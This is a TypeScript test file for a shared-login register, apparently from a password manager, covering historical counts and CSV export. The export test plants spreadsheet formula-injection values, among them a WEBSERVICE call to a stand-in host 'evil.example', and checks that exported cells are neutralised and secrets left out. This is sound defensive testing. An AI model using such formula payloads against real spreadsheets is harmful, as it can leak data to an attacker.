/** The register of shared logins over time and as a file: what held at a past time, and cells that are text and nothing else. */
import { afterAll, describe, expect, it } from "vitest";
import type { CommandInput } from "../../../../shared/contract/commands.ts";
import type { ItemId } from "../../../../shared/encoding/ids.ts";
import { fail, ok } from "../../../../shared/failures.ts";
import { textOfCell } from "../../../../shared/model/table-cells.ts";
import { must } from "../../../../shared/testing/team.ts";
import { cleanUp, type Person, testTeam } from "../test-team.ts";
import { exportRegister } from "./register-export.ts";

afterAll(cleanUp);

const { ada, bob } = testTeam({ ada: "manage", bob: "use" }).people as Record<"ada" | "bob", Person>;
const day = 86_400_000;
const saveAt = async (now: number, changes: object, kind = "login"): Promise<ItemId> => {
  ada.now = now;
  const input = { vault: ada.vault, kind, changes } as never;
  return must(await ada.items.handlers["item.save"](input)).item as ItemId;
};
const deleteAt = async (now: number, item: ItemId) => {
  ada.now = now;
  must(await ada.items.handlers["item.delete"]({ item } as never));
};

describe("the number of shared logins", () => {
  const start = ada.now;
  const at = (days: number) => start + days * day;
  const trend = async (who: Person, ...days: number[]) =>
    must(await who.items.handlers["register.trend"]({ marks: days.map(at) } as never));

  it("is of any time that which held then: from the first version of each until it was deleted", async () => {
    const first = await saveAt(at(10), { title: "Buffer" });
    await saveAt(at(20), { title: "Canva" });
    await saveAt(at(20), { title: "A note" }, "note");
    const gone = await saveAt(at(30), { title: "Old" });
    const note = await saveAt(at(30), { title: "Old note" }, "note");
    await deleteAt(at(40), gone);
    await deleteAt(at(40), note);
    ada.now = at(45);
    must(
      await ada.items.handlers["item.save"]({ item: first, vault: ada.vault, changes: { title: "Buffer 2" } } as never),
    );
    const counted = { counts: [0, 1, 2, 3, 2, 2], unknown: 0 };
    expect(await trend(ada, 9, 10, 25, 35, 40, 50)).toEqual(counted);
    // What is said of last year does not change with what is done today.
    const later = await saveAt(at(60), { title: "Later" });
    expect(await trend(ada, 9, 10, 25, 35, 40, 50)).toEqual(counted);
    expect((await trend(ada, 59, 60)).counts).toEqual([2, 3]);
    await deleteAt(at(61), later);
    must(await bob.sync());
    expect(await trend(bob, 9, 10, 25, 35, 40, 50, 60)).toEqual({ counts: [...counted.counts, 3], unknown: 0 });
  });

  it("says of how many it cannot be said: what was deleted forever", async () => {
    const item = await saveAt(at(70), { title: "Purged" });
    await deleteAt(at(71), item);
    ada.now = at(102);
    must(await ada.items.handlers["item.purge"]({ item } as never));
    expect(await trend(ada, 70)).toEqual({ counts: [2], unknown: 1 });
  });
});

/** Every cell of every line, as a reader of CSV has it. */
const cellsOf = (text: string): string[][] =>
  text
    .replace(/^\ufeff/, "")
    .split("\r\n")
    .filter((line) => line !== "")
    .map((line) => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = ""]) => cell.replaceAll('""', '"')));

/** What would become of the file. */
function saving(write: (bytes: Uint8Array) => ReturnType<typeof ok<true>> | ReturnType<typeof fail>) {
  const file = { text: "", name: "", discarded: 0 };
  const taken = {
    write(bytes: Uint8Array) {
      file.text += new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
      return write(bytes);
    },
    finish: () => ok({ name: file.name, place: "downloads" as const }),
    discard: () => void file.discarded++,
  };
  const begin = async (name: string) => {
    file.name = name;
    return ok(taken);
  };
  return { file, downloads: { begin, tidy: () => undefined } as never };
}

describe("the list of shared logins as a file", () => {
  const owner = ada.unlocked.profile.user as string;
  const lists = {
    "member.list": async () => ok([{ user: owner, name: "=Ada" }]),
    "vault.list": async () => ok([{ vault: ada.vault, title: "@Office", readers: [{}, {}] }]),
  } as never;
  const list = ada.items.handlers["register.list"] as never;
  const asked = (query: CommandInput<"register.export"> = {}) => query as never;

  it("holds every login with names and days, in cells that are text, and no secret", async () => {
    const sharedLogin = {
      ...{
        reason: '=WEBSERVICE("https://evil.example")',
        owner,
        deputy: bob.unlocked.profile.user,
        alias: "+49 social",
      },
      ...{ reviewAt: Date.UTC(2099, 0, 15), end: null },
    };
    await saveAt(ada.now, { title: "-2+3\u202e", password: "hunter2-secret", sharedLogin });
    const { file, downloads } = saving(() => ok(true));
    const saved = must(await exportRegister({ list, lists, downloads, now: () => Date.UTC(2026, 10, 28) }, asked()));
    expect(saved).toEqual({ name: "latchkey-shared-logins-2026-11-28.csv", place: "downloads", logins: 3, absent: 0 });
    const [head = [], ...rows] = cellsOf(file.text);
    expect(head).toEqual([
      ...["item", "title", "vault", "people", "reason", "owner", "deputy", "alias", "reviewAt", "end", "lacks"],
    ]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s]*[=+\-@]/);
    const row = rows.find(([, title]) => title?.includes("-2"))?.map(textOfCell) ?? [];
    expect(row.slice(1)).toEqual([
      ...["-2+3\u202e", "@Office", "2", '=WEBSERVICE("https://evil.example")', "=Ada"],
      ...[bob.unlocked.profile.user, "+49 social", "2099-01-15", "", ""],
    ]);
    expect(rows.find(([, title]) => title === "Canva")?.at(-1)).toBe("reason owner deputy review");
    expect(file.text).not.toMatch(/hunter2|\u202e/);
    const narrowed = saving(() => ok(true));
    must(await exportRegister({ list, lists, downloads: narrowed.downloads, now: () => 0 }, asked({ text: "canva" })));
    expect(cellsOf(narrowed.file.text)).toHaveLength(2);
  });

  it("leaves nothing where it cannot be written", async () => {
    const { file, downloads } = saving(() => fail("storage-full"));
    const saved = await exportRegister({ list, lists, downloads, now: () => 0 }, asked());
    expect(saved).toMatchObject({ failure: { code: "storage-full" } });
    expect(file.discarded).toBe(1);
  });
});
